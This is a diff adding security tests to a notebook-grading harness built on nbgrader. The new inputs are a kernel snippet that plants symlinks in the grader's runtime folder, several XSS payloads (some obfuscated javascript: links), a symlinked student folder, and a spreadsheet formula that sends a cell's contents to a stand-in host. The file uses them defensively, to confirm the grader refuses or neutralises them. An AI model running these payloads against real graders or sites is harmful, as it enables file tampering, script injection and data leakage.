@@ -35,11 +35,12 @@ from html.parser import HTMLParser
 import nbformat
 import pytest
 from grading_harness import BIN, ROOT, SANDBOX_MISSING, nbgrader, run_nbgrader, solved
+from nbconvert.filters.markdown_mistune import markdown2html_mistune
 from nbformat.v4 import new_code_cell, new_markdown_cell
 
 from seqlab.grading import intake
 from seqlab.grading.nbgrader_plugins import inert_cell
-from seqlab.grading.sanitize import clean_html, clean_markdown
+from seqlab.grading.sanitize import active_parts, clean_html, clean_markdown
 
 EX = "ex01_lstm_cell"
 ENV = dict(os.environ, PATH=f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}")
@@ -72,6 +73,21 @@ SCRIPT_OUTPUTS = (
     "display(HTML('<iframe src=\"javascript:alert(1)\"></iframe><a href=\"javascript:alert(1)\">x</a>'))"
 )
 SCRIPT_MARKDOWN = "My answer <img src=x onerror=alert(1)> <script>alert(2)</script> [see](javascript:alert(3))"
+# In the student's kernel: every file of its runtime folder (connection file, and where the kernel log and
+# a passwd once were) becomes a link to a file of the grader's machine, then the kernel dies, so that the
+# grader starts a new one. Nothing may be written through the links.
+PLANT_LINKS = """
+import os
+from ipykernel import get_connection_file
+runtime = os.path.dirname(get_connection_file())
+for name in ["kernel.json", "kernel.log", "passwd", "group", "k-1", "k-2", "k-3", "k-4", "k-5"]:
+    path = os.path.join(runtime, name)
+    if os.path.lexists(path):
+        os.remove(path)
+    os.symlink({target!r}, path)
+os._exit(1)
+"""
+NOT_A_NOTEBOOK = '{"cells": [1, 2], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'  # JSON, cells not cells
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
 
 
@@ -100,7 +116,10 @@ def course(tmp_path_factory):
         return folder
 
     hand_in("good", answer)
-    hand_in("browser_name", answer, f"{EX} (1).ipynb")
+    folder = hand_in("browser_name", answer, f"{EX} (1).ipynb")
+    (folder / f"{EX}.ipynb").mkdir()  # a folder named as the notebook will be, and a name that is not UTF-8
+    (folder / f"{EX}.ipynb" / "x.txt").write_text("x")
+    (folder / os.fsdecode(b"notes\xff\nfake line.txt")).write_text("x")
     hand_in("two_notebooks", answer)
     hand_in("two_notebooks", answer, f"{EX} (1).ipynb")
     (hand_in("torch_module", release) / "torch.py").write_text(TORCH_MODULE)
@@ -115,6 +134,14 @@ def course(tmp_path_factory):
     os.link(outside, folder / "hard.txt")
     (folder / "data.txt").write_text("a file of the student's own")
     (hand_in("corrupt") / f"{EX}.ipynb").write_text(nested(100_000))
+    (hand_in("corrupt_cells") / f"{EX}.ipynb").write_text(NOT_A_NOTEBOOK)
+    elsewhere = tmp_path_factory.mktemp("elsewhere")  # a student folder that is a link to another class's
+    shutil.copytree(course / "solutions" / EX, elsewhere / EX)
+    (course / "submitted" / "linked").symlink_to(elsewhere)
+    hand_in("<img src=x onerror=alert(1)>", answer)
+    planter = nbformat.from_dict(answer)  # plants links where the grader, root, writes, then dies
+    planter.cells.insert(1, new_code_cell(PLANT_LINKS.format(target=str(outside))))
+    hand_in("planter", planter)
     forged = nbformat.from_dict(answer)
     forged.metadata["seqlab"] = {"notes": [FORMULA], "review": [], "sandbox": "forged"}
     hand_in("forged_notes", forged)
@@ -131,12 +158,52 @@ def course(tmp_path_factory):
     summary = done.stdout + done.stderr
     outcomes = {s["student"]: s for s in json.loads(report.read_text())["submissions"]}
     nbgrader(course, "export", "--to=grades.csv")
-    return {"course": course, "summary": summary, "status": done.returncode, "outcomes": outcomes,
+    return {"course": course, "summary": summary, "status": done.returncode, "outcomes": outcomes, "outside": outside,
             "release": release, "solution": solution}
 
 
 def autograded(course, student):
     return nbformat.read(course / "autograded" / student / EX / f"{EX}.ipynb", as_version=4)
+
+
+@needs_sandbox
+def test_the_grader_never_writes_through_a_link_a_kernel_planted(course):
+    outcome = course["outcomes"]["planter"]
+    assert outcome["status"] == "graded" and outcome["score"] == full(course["course"]), course["summary"]
+    assert course["outside"].read_text() == "the instructor's secret"
+
+
+@needs_sandbox
+def test_linked_folders_odd_ids_and_odd_names_are_refused_and_the_rest_graded(course):
+    outcomes = course["outcomes"]
+    assert outcomes["linked"]["status"] == "failed" and "link" in outcomes["linked"]["reason"], outcomes["linked"]
+    odd = next(o for o in outcomes.values() if o["student"].startswith("<img"))
+    assert odd["status"] == "failed" and "is not letters, digits" in odd["reason"], odd
+    assert outcomes["corrupt_cells"]["status"] == "failed" and "corrupt" in outcomes["corrupt_cells"]["reason"]
+    notes = " | ".join(outcomes["browser_name"]["notes"])
+    assert "folder named as the notebook" in notes and "not UTF-8" in notes, notes
+    assert "fake line" not in course["summary"].replace("\\nfake line", ""), course["summary"]
+    assert not (course["course"] / "autograded" / "linked").exists()
+    done = run_nbgrader(course["course"], "autograde", EX, "--student=linked", "--force")
+    assert not (course["course"] / "autograded" / "linked").exists(), done.stdout + done.stderr
+
+
+@needs_sandbox
+def test_the_formgrader_button_takes_the_intake_too(course):
+    """NbGraderAPI.autograde, what formgrader's autograde button calls, reads the submission's copy too."""
+    script = (
+        "from nbgrader.apps import NbGraderAPI\n"
+        "from traitlets.config.loader import PyFileConfigLoader\n"
+        "config = PyFileConfigLoader('nbgrader_config.py', path='.').load_config()\n"
+        "config.CourseDirectory.root = '.'\n"
+        f"result = NbGraderAPI(config=config).autograde({EX!r}, 'links', force=True, create=True)\n"
+        "print('success', result['success'])\n"
+    )
+    done = subprocess.run([str(BIN / "python"), "-c", script], cwd=course["course"], env=ENV,
+                          capture_output=True, text=True, timeout=300)
+    assert "success True" in done.stdout, done.stdout + done.stderr
+    copied = {p.name for p in (course["course"] / "autograded" / "links" / EX).iterdir()} - {"timestamp.txt"}
+    assert copied == {"data.txt", f"{EX}.ipynb"}, copied
 
 
 def full(course) -> float:
@@ -221,7 +288,7 @@ def test_student_markup_is_inert_in_what_the_grader_writes(course):
     assert "<b>bold</b>" in text  # harmless HTML stays
     nbgrader(course["course"], "generate_feedback", EX, "--student=markup", "--force")
     page = (course["course"] / "feedback" / "markup" / EX / f"{EX}.html").read_text()
-    assert active_parts(page) == [], active_parts(page)
+    assert payload_parts(page) == [], payload_parts(page)
 
 
 class _Active(HTMLParser):
@@ -248,16 +315,16 @@ class _Active(HTMLParser):
         self._in_script = False
 
 
-def active_parts(page: str) -> list:
+def payload_parts(page: str) -> list:
     parser = _Active()
     parser.feed(page)
     return parser.found
 
 
-def test_the_active_parts_check_finds_what_would_run():
+def test_the_payload_check_finds_what_would_run():
     page = '<p onclick="x()">a</p><script>alert(1)</script><script>MathJax = {}</script><a href="javascript:x">l</a>'
-    assert active_parts(page) == ["<p onclick='x()'>", "<script>alert(1)", "<a href='javascript:x'>"]
-    assert active_parts("<pre>&lt;img src=x onerror=alert(1)&gt;</pre>") == []
+    assert payload_parts(page) == ["<p onclick='x()'>", "<script>alert(1)", "<a href='javascript:x'>"]
+    assert payload_parts("<pre>&lt;img src=x onerror=alert(1)&gt;</pre>") == []
 
 
 def test_the_sanitiser_keeps_images_and_text_and_drops_what_runs():
@@ -269,7 +336,10 @@ def test_the_sanitiser_keeps_images_and_text_and_drops_what_runs():
     assert clean_markdown("a < b, > quoted") == "a < b, > quoted"  # no HTML: as written
     assert clean_markdown("$x<y$ and $$a>b$$") == r"$x\lt y$ and $$a\gt b$$"  # TeX's own, drawn the same
     assert "<img" not in clean_markdown("$<img src=x onerror=alert(1)>$ <b>x</b>")  # a formula, no tag
-    assert clean_markdown("[x](JaVa&#115;cript:alert(1))") == "[x](#unsafe-link))"
+    for sneaky in ("[x](JaVa&#115;cript:alert(1))", "> [x]: javascript:alert(1)\n\n[x]", "- [x]: javascript:a()\n\n[x]",
+                   "[x]:\n  javascript:a()\n\n[x]", "[x]: javascript:a()\r\n\r\n[x]", "<javascript:a()>"):
+        assert active_parts(markdown2html_mistune(sneaky)) != []  # each renders a javascript: link
+        assert active_parts(markdown2html_mistune(clean_markdown(sneaky))) == [], sneaky
 
 
 def test_export_fields_that_start_a_formula_are_text():
@@ -437,3 +507,14 @@ def test_memory_and_disk_are_capped_for_the_whole_notebook_not_per_process(tmp_p
     assert "-9" in hogs[1], hogs[0]  # at least one hog was killed: 1.8 GB together do not fit in 1.5 GB
     written = re.search(r"files written: (\d)", page)
     assert written and int(written[1]) < 4, written  # 120 MB do not fit in 64 MB
+
+
+def test_the_intake_stages_the_notebook_under_the_exercise_name_beside_the_other_files(tmp_path):
+    submission = tmp_path / "in"
+    submission.mkdir()
+    (submission / "a.txt").write_text("a")
+    (submission / f"{EX} (1).ipynb").write_text(json.dumps(nbformat.v4.new_notebook()))
+    (submission / "z.txt").write_text("z")
+    found = intake.stage(submission, tmp_path / "out", EX)
+    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["a.txt", f"{EX}.ipynb", "z.txt"]
+    assert (tmp_path / "out" / "a.txt").read_text() == "a" and found.refused == []
